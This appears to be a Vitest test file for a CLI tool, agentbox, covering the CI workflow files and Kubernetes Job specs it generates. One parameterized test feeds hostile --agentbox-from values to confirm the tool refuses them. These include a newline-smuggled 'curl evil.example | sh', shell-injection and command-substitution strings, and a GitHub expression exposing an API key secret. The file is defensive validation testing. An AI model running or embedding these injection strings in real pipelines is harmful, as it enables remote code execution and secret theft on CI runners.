import { execFileSync } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import { GITHUB_WORKFLOW_FILE } from '../../src/engines/files.js';
import { githubWorkflow } from '../../src/engines/github.js';
import { GITLAB_JOB_FILE, gitlabJob } from '../../src/engines/gitlab.js';
import { VERSION } from '../../src/version.js';
import { agentbox } from '../helpers/cli.js';
import { GIT_ENV, gitRepo, snapshotTree, type TestRepo } from '../helpers/git-repo.js';

const cleanups: (() => void)[] = [];
afterEach(() => {
  for (const c of cleanups.splice(0).reverse()) c();
});
function repo(): TestRepo {
  const r = gitRepo();
  cleanups.push(() => r.cleanup());
  return r;
}
/** No registry answers: a default install source is never found, and nothing reaches the network. */
const env = (r: TestRepo) => ({
  PATH: process.env.PATH,
  HOME: r.dir,
  ...GIT_ENV,
  npm_config_registry: 'http://127.0.0.1:9/',
  npm_config_fetch_retries: '0',
  npm_config_update_notifier: 'false',
});
const FROM = 'https://files.example/agentbox-0.1.0.tgz';

describe('agentbox init --ci', () => {
  it('github: writes the workflow with the setup; a second run changes no byte', async () => {
    const r = repo();
    const first = await agentbox(['init', '--ci', 'github', '--agentbox-from', FROM], {
      cwd: r.dir,
      env: env(r),
    });
    expect(first.stderr).toBe('');
    expect(first.code).toBe(0);
    expect(first.stdout).toContain(`wrote ${GITHUB_WORKFLOW_FILE}`);
    expect(first.stdout).toContain('docs/ci.md');
    expect(r.read(GITHUB_WORKFLOW_FILE)).toBe(githubWorkflow(VERSION, FROM));
    expect(r.exists('.agents/runs')).toBe(true);
    const before = snapshotTree(r.dir, { skip: ['.git'] });
    const again = await agentbox(['init', '--ci', 'github'], { cwd: r.dir, env: env(r) });
    expect(again.code).toBe(0);
    expect(again.stdout).toContain('nothing changed');
    expect(snapshotTree(r.dir, { skip: ['.git'] })).toEqual(before);
  });

  it('an existing workflow that differs is an error that writes nothing; --force replaces it', async () => {
    const r = repo();
    r.write(GITHUB_WORKFLOW_FILE, 'name: mine\n');
    const before = snapshotTree(r.dir, { skip: ['.git'] });
    const refused = await agentbox(['init', '--ci', 'github', '--agentbox-from', FROM], {
      cwd: r.dir,
      env: env(r),
    });
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain(`${GITHUB_WORKFLOW_FILE} already exists`);
    expect(refused.stderr).toContain('agentbox init --ci github --force');
    // All or nothing: not even the ledger was created.
    expect(snapshotTree(r.dir, { skip: ['.git'] })).toEqual(before);
    const forced = await agentbox(['init', '--ci', 'github', '--force', '--agentbox-from', FROM], {
      cwd: r.dir,
      env: env(r),
    });
    expect(forced.code).toBe(0);
    expect(forced.stdout).toContain(`replaced ${GITHUB_WORKFLOW_FILE}`);
    expect(r.read(GITHUB_WORKFLOW_FILE)).toBe(githubWorkflow(VERSION, FROM));
  });

  it('gitlab: the job file, and a .gitlab-ci.yml that includes it when there is none', async () => {
    const r = repo();
    const result = await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', FROM], {
      cwd: r.dir,
      env: env(r),
    });
    expect(result.code).toBe(0);
    expect(r.read(GITLAB_JOB_FILE)).toContain('agentbox:');
    expect(r.read('.gitlab-ci.yml')).toContain(`- local: ${GITLAB_JOB_FILE}`);
  });

  it("gitlab: a project's own .gitlab-ci.yml is left alone, and the include is named", async () => {
    const r = repo();
    r.write('.gitlab-ci.yml', 'test:\n  script: [npm test]\n');
    const result = await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', FROM], {
      cwd: r.dir,
      env: env(r),
    });
    expect(result.code).toBe(0);
    expect(r.read('.gitlab-ci.yml')).toBe('test:\n  script: [npm test]\n');
    expect(result.stdout).toContain(`include:\n      - local: ${GITLAB_JOB_FILE}`);
    r.write('.gitlab-ci.yml', `include:\n  - local: ${GITLAB_JOB_FILE}\n`);
    const again = await agentbox(['init', '--ci', 'gitlab'], { cwd: r.dir, env: env(r) });
    expect(again.stdout).toContain('nothing changed');
    expect(again.stdout).not.toContain('include:');
  });

  it('without --agentbox-from and with no registry that has agentbox@<version>: stops, says what to pass, writes nothing', async () => {
    const r = repo();
    const before = snapshotTree(r.dir, { skip: ['.git', '.npm'] });
    const result = await agentbox(['init', '--ci', 'github'], { cwd: r.dir, env: env(r) });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(`agentbox@${VERSION} is not on the npm registry this machine uses`);
    expect(result.stderr).toContain(`npm view agentbox@${VERSION} failed (ECONNREFUSED)`);
    expect(result.stderr).toContain('agentbox init --ci github --agentbox-from <source>');
    expect(result.stderr).toContain('git+https://');
    expect(result.stderr).toContain('.tgz');
    expect(snapshotTree(r.dir, { skip: ['.git', '.npm'] })).toEqual(before);
  });

  it('the source is recorded in the file: --force keeps it, --agentbox-from changes it', async () => {
    const r = repo();
    const other = 'git+https://git.example/team/agentbox.git#0123abc';
    await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', FROM], { cwd: r.dir, env: env(r) });
    expect(r.read(GITLAB_JOB_FILE)).toContain(`# Installs agentbox from: ${FROM} (`);
    expect(r.read(GITLAB_JOB_FILE)).toContain(`npm install --global --no-fund --no-audit '${FROM}'`);
    r.write(GITLAB_JOB_FILE, `${r.read(GITLAB_JOB_FILE)}# my edit\n`);
    const kept = await agentbox(['init', '--ci', 'gitlab', '--force'], { cwd: r.dir, env: env(r) });
    expect(kept.code).toBe(0);
    expect(kept.stdout).toContain(`CI runners install agentbox from ${FROM} (--agentbox-from changes it).`);
    expect(r.read(GITLAB_JOB_FILE)).toBe(gitlabJob(VERSION, FROM));
    const changed = await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', other], {
      cwd: r.dir,
      env: env(r),
    });
    expect(changed.code).toBe(1);
    expect(changed.stderr).toContain('--force');
    await agentbox(['init', '--ci', 'gitlab', '--force', '--agentbox-from', other], {
      cwd: r.dir,
      env: env(r),
    });
    expect(r.read(GITLAB_JOB_FILE)).toBe(gitlabJob(VERSION, other));
  });

  it.each([
    ['a newline', 'agentbox@0.1.0\ncurl evil.example | sh'],
    ['a carriage return', 'agentbox@0.1.0\rx'],
    ['a NUL', 'agentbox@0.1.0\u0000'],
    ['a space', "agentbox@0.1.0'; touch pwned; '"],
    ['a GitHub expression', `https://x.example/\${{secrets.ANTHROPIC_API_KEY}}.tgz`],
    ['shell in a spec', 'agentbox@$(touch pwned)'],
    ['a plain-http tarball', 'http://files.example/agentbox.tgz'],
    ['an absolute path with "..", which npm reads relative', 'file:///../agentbox-0.1.0.tgz'],
  ])('--agentbox-from with %s is refused, naming it, and nothing is written', async (_, value) => {
    const r = repo();
    const before = snapshotTree(r.dir, { skip: ['.git'] });
    const result = await agentbox(['init', '--ci', 'github', '--agentbox-from', value], {
      cwd: r.dir,
      env: env(r),
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('invalid --agentbox-from');
    expect(result.stderr).toContain('agentbox@<version>');
    expect(snapshotTree(r.dir, { skip: ['.git'] })).toEqual(before);
  });

  it('a path or a file: URL is taken, with what it means for runners; a missing one is warned of', async () => {
    const r = repo();
    const tarball = path.join(r.dir, 'agentbox-0.1.0.tgz');
    fs.writeFileSync(tarball, 'a tarball\n');
    const fromFile = await agentbox(['init', '--ci', 'gitlab', '--agentbox-from', `file://${tarball}`], {
      cwd: r.dir,
      env: env(r),
    });
    expect(fromFile.stderr).toBe('');
    expect(fromFile.code).toBe(0);
    expect(r.read(GITLAB_JOB_FILE)).toContain(
      `npm install --global --no-fund --no-audit 'file://${tarball}'`,
    );
    expect(fromFile.stdout).toContain(`CI runners install agentbox from file://${tarball} (`);
    expect(fromFile.stdout).toContain("Note: a path is read on the runner's own disk:");
    const missing = '/srv/nowhere/agentbox-0.1.0.tgz';
    const fromMissing = await agentbox(['init', '--ci', 'github', '--agentbox-from', missing], {
      cwd: r.dir,
      env: env(r),
    });
    expect(fromMissing.code).toBe(0);
    expect(fromMissing.stderr).toBe(
      `agentbox: warning: ${missing} does not exist on this machine: runners must have it at that path\n`,
    );
    expect(r.read(GITHUB_WORKFLOW_FILE)).toContain(`'${missing}'`);
  });

  it('a relative path is refused, naming the absolute one to pass, and nothing is written', async () => {
    const r = repo();
    const before = snapshotTree(r.dir, { skip: ['.git'] });
    const sub = path.join(r.dir, 'sub');
    fs.mkdirSync(sub);
    const result = await agentbox(['init', '--ci', 'github', '--agentbox-from', '../agentbox-0.1.0.tgz'], {
      cwd: sub,
      env: env(r),
    });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('invalid --agentbox-from "../agentbox-0.1.0.tgz": a relative path');
    expect(result.stderr).toContain(`--agentbox-from ${path.join(r.dir, 'agentbox-0.1.0.tgz')}`);
    fs.rmdirSync(sub);
    expect(snapshotTree(r.dir, { skip: ['.git'] })).toEqual(before);
  });

  it('--agentbox-from without --ci is a usage error', async () => {
    const r = repo();
    const result = await agentbox(['init', '--agentbox-from', FROM], { cwd: r.dir, env: env(r) });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('--agentbox-from goes with --ci');
    expect(r.exists('.agents')).toBe(false);
  });

  it('an unknown platform is a usage error', async () => {
    const r = repo();
    const result = await agentbox(['init', '--ci', 'jenkins'], { cwd: r.dir, env: env(r) });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain('invalid --ci "jenkins"');
    expect(result.stderr).toContain('github, gitlab');
  });
});

describe('agentbox k8s job', () => {
  function withOrigin(url: string): TestRepo {
    const r = repo();
    r.git('remote', 'add', 'origin', url);
    return r;
  }

  it('prints a Job for HEAD of origin, over https, with a note about the unpushed commit', async () => {
    const r = withOrigin('git@github.com:team/app.git');
    const result = await agentbox(
      ['k8s', 'job', 'fix', 'cache the lookup', '--name', 'agentbox-fix-t1', '--json'],
      {
        cwd: r.dir,
        env: env(r),
      },
    );
    expect(result.code).toBe(0);
    const job = JSON.parse(result.stdout);
    const vars = Object.fromEntries(
      job.spec.template.spec.containers[0].env.map((e: any) => [e.name, e.value]),
    );
    expect(job.metadata.name).toBe('agentbox-fix-t1');
    expect(vars.AGENTBOX_REPO).toBe('https://github.com/team/app.git');
    expect(vars.AGENTBOX_COMMIT).toBe(r.git('rev-parse', 'HEAD').trim());
    expect(vars.AGENTBOX_TASK).toBe('cache the lookup');
    expect(result.stderr).toContain('cloned over https instead of git@github.com:team/app.git');
    expect(result.stderr).toContain('is on no remote branch: push it first');
  });

  it("--agentbox-from: the pod installs it over the image's agentbox; a bad one is refused", async () => {
    const r = withOrigin('https://git.example/team/app.git');
    const spec = 'git+https://git.example/team/agentbox.git#0123abc';
    const result = await agentbox(['k8s', 'job', 'fix', 'x', '--json', '--agentbox-from', spec], {
      cwd: r.dir,
      env: env(r),
    });
    expect(result.code).toBe(0);
    const container = JSON.parse(result.stdout).spec.template.spec.containers[0];
    expect(container.env).toContainEqual({ name: 'AGENTBOX_FROM', value: spec });
    expect(container.command[2]).toContain('npm install --global --prefix "$HOME/.agentbox"');
    const bad = await agentbox(['k8s', 'job', 'fix', 'x', '--agentbox-from', 'agentbox@1\nid'], {
      cwd: r.dir,
      env: env(r),
    });
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('invalid --agentbox-from');
    const inImage = await agentbox(
      ['k8s', 'job', 'fix', 'x', '--json', '--agentbox-from', 'file:///opt/agentbox-0.1.0.tgz'],
      { cwd: r.dir, env: env(r) },
    );
    expect(inImage.code).toBe(0);
    expect(JSON.parse(inImage.stdout).spec.template.spec.containers[0].env).toContainEqual({
      name: 'AGENTBOX_FROM',
      value: 'file:///opt/agentbox-0.1.0.tgz',
    });
    expect(inImage.stderr).toContain(
      'agentbox: --agentbox-from /opt/agentbox-0.1.0.tgz is a path: the pod reads it in its image, not on this machine',
    );
  });

  it("asks git with the command's environment (its git config), not agentbox's own", async () => {
    const r = withOrigin('git@github.com:team/app.git');
    const config = path.join(r.dir, '.gitconfig-mirror');
    fs.writeFileSync(config, '[url "https://mirror.example/"]\n\tinsteadOf = git@github.com:\n');
    const result = await agentbox(['k8s', 'job', 'fix', 'x', '--json'], {
      cwd: r.dir,
      env: { ...env(r), GIT_CONFIG_GLOBAL: config },
    });
    expect(result.code).toBe(0);
    const job = JSON.parse(result.stdout);
    const vars = Object.fromEntries(
      job.spec.template.spec.containers[0].env.map((e: any) => [e.name, e.value]),
    );
    expect(vars.AGENTBOX_REPO).toBe('https://mirror.example/team/app.git');
  });

  it('a pushed commit gets no note; the YAML says how to apply it', async () => {
    const origin = gitRepo({ bare: true });
    cleanups.push(() => origin.cleanup());
    const r = withOrigin(origin.dir);
    execFileSync('git', ['push', '--quiet', 'origin', 'main'], {
      cwd: r.dir,
      env: { ...process.env, ...GIT_ENV },
    });
    r.git('fetch', '--quiet', 'origin');
    const result = await agentbox(
      ['k8s', 'job', 'scout', 'why?', '--repo', 'https://git.example/team/app.git'],
      {
        cwd: r.dir,
        env: env(r),
      },
    );
    expect(result.stderr).toBe('');
    expect(result.stdout).toContain('kubectl apply -f -');
    expect(result.stdout).toMatch(/name: agentbox-scout-[0-9a-f]{6}\n/);
  });

  it.each([
    [['k8s', 'job', 'deploy', 'x'], 'invalid run type "deploy"'],
    [['k8s', 'job', 'fix', ' '], 'invalid task'],
    [['k8s', 'job', 'fix', 'x', '--sandbox', 'none'], 'invalid --sandbox "none"'],
    [['k8s', 'job', 'fix', 'x', '--ttl', 'soon'], 'invalid --ttl "soon"'],
    [['k8s', 'job', 'fix', 'x', '--name', 'Bad_Name'], 'invalid --name "Bad_Name"'],
    [['k8s', 'job', 'fix', 'x', '--max-cost', 'lots'], 'invalid --max-cost'],
    [['k8s', 'job', 'fix', 'x', '--memory', '4 GB'], 'invalid --memory "4 GB"'],
    [['k8s', 'job', 'fix', 'x', '--repo', '/srv/app.git'], 'cannot clone the repository from "/srv/app.git"'],
  ])('%j is refused: %s', async (args, message) => {
    const r = withOrigin('https://git.example/team/app.git');
    const result = await agentbox(args, { cwd: r.dir, env: env(r) });
    expect(result.code).toBe(2);
    expect(result.stderr).toContain(message);
    expect(result.stdout).toBe('');
  });
});
